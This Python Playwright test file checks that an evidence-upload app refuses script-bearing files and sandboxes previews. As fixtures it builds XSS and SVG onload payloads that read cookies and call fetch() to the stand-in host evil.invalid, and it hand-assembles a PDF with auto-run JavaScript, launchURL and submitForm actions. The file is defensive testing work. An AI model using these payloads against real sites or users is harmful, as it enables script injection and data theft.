"""Hostile files as evidence: what a browser would run is not taken, and what is shown runs and reaches nothing."""

import base64
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Dialog, Page

from licensetrack.demo_papers import PAPERS, sample_pdf
from tests.e2e.conftest import Site, watched
from tests.e2e.test_evidence import DROP
from tests.e2e.test_pages import sign_in
from tests.handover.people import picture

EVIL = "http://evil.invalid"
SCRIPT = f"<script>top.hacked=1;document.cookie;fetch('{EVIL}/html')</script>".encode()
ONLOAD = f"fetch('{EVIL}/svg')"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{ONLOAD}\"><script>top.hacked=1</script></svg>".encode()
JAVASCRIPT = f"app.alert('hacked'); app.launchURL('{EVIL}/url', true); this.submitForm('{EVIL}/form');"


def hostile_pdf() -> bytes:
    """A PDF that opens with a script, an address to go to and a page that asks another host; then comes HTML."""
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> "
        "/AA << /WC 5 0 R >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /AA << /O 5 0 R >> /Annots [6 0 R] >>",
        f"<< /S /JavaScript /JS ({JAVASCRIPT.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>",
        f"<< /S /URI /URI ({EVIL}/action) >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A 5 0 R >>",
    ]
    made, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = len(made)
    made += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    made += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    made += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n".encode()
    return made + SCRIPT + b"\n%%EOF\n"


def hostile_png() -> bytes:
    """A picture with HTML and SVG in it, before its last twelve bytes."""
    return picture()[:-12] + SCRIPT + SVG + picture()[-12:]


def drop(page: Page, *files: tuple[str, str, bytes]) -> None:
    """Drops files on the form and sends it."""
    page.goto("/evidence/new")
    coded = [(name, kind, base64.b64encode(content).decode()) for name, kind, content in files]
    page.dispatch_event("[data-drop]", "drop", {"dataTransfer": page.evaluate_handle(DROP, coded)})
    page.select_option("select[name=evidence_class]", "working")
    page.locator("form[data-upload] [type=submit]").click()


def test_what_a_browser_would_run_is_not_taken_whatever_it_is_called(browser: Browser, site: Site) -> None:
    with watched(browser, site.url) as (context, watch):
        watch.expect("422")
        page = context.new_page()
        sign_in(page, site, "performance_officer")
        for name, kind, content in (
            ("网页.html", "text/html", SCRIPT), ("图.svg", "image/svg+xml", SVG),
            ("改名.pdf", "application/pdf", SCRIPT), ("改名.png", "image/png", SVG), ("改名.jpg", "image/jpeg", SCRIPT),
        ):  # fmt: skip
            drop(page, (name, kind, content))
            page.wait_for_selector("#files-error")
            assert name in page.inner_text("#files-error")


def test_a_picture_is_shown_where_it_can_do_nothing_and_a_pdf_with_scripts_not_at_all(
    browser: Browser, site: Site
) -> None:
    asked: list[str] = []
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    with watched(browser, site.url) as (context, watch):
        watch.expect("404")
        context.on("request", lambda request: asked.append(request.url))  # the reader's own parts are no host's
        page = context.new_page()
        page.on("dialog", dismiss)
        sign_in(page, site, "performance_officer")
        drop(
            page, ("恶意文件.pdf", "application/pdf", hostile_pdf()), ("恶意图片.png", "image/png", hostile_png()),
            ("合同.pdf", "application/pdf", sample_pdf(PAPERS[7]) + b"\n%another copy\n%%EOF\n"),
        )  # fmt: skip
        page.wait_for_selector(".alert-success")
        for title, kind in (("恶意图片", "image/png"), ("合同", "application/pdf")):
            frame = opened(page, title)
            shown = page.request.get(str(frame.get_attribute("src")))
            policy = shown.headers["content-security-policy"]
            assert policy == "default-src 'none'; style-src 'unsafe-inline'; sandbox; frame-ancestors 'self'"
            assert (shown.headers["content-type"], shown.headers["x-content-type-options"]) == (kind, "nosniff")
            assert shown.headers["x-frame-options"] == "SAMEORIGIN"
            assert shown.headers["cross-origin-resource-policy"] == "same-origin"
            assert shown.headers["cache-control"] == "no-store"
            if kind == "image/png":
                assert frame.get_attribute("sandbox") == ""
                assert page.frames[1].evaluate("self.origin") == "null"  # a stranger to our pages, cookies and storage
        number = opened(page, "恶意文件", frame=False)
        assert "含有脚本或自动操作" in page.inner_text("main")
        assert page.request.get(f"{number}/content").status == 404  # nor by its address
        page.wait_for_timeout(1500)  # what would run had its time
        assert page.evaluate("window.hacked") is None
    assert dialogs == []
    foreign = [url for url in asked if url.startswith(("http:", "https:")) and not url.startswith(site.url)]
    assert foreign == []


def opened(page: Page, title: str, *, frame: bool = True) -> Any:
    """The page of a file: its preview, given a moment to do its worst; or its address, where there must be none."""
    page.goto("/evidence")
    page.locator("tbody tr", has_text=title).first.locator("th a").click()
    page.wait_for_selector("h1")
    if not frame:
        assert page.locator("iframe").count() == 0
        return urlsplit(page.url).path
    shown = page.locator("iframe.preview")
    shown.wait_for()
    shown.scroll_into_view_if_needed()
    page.wait_for_timeout(1500)
    return shown
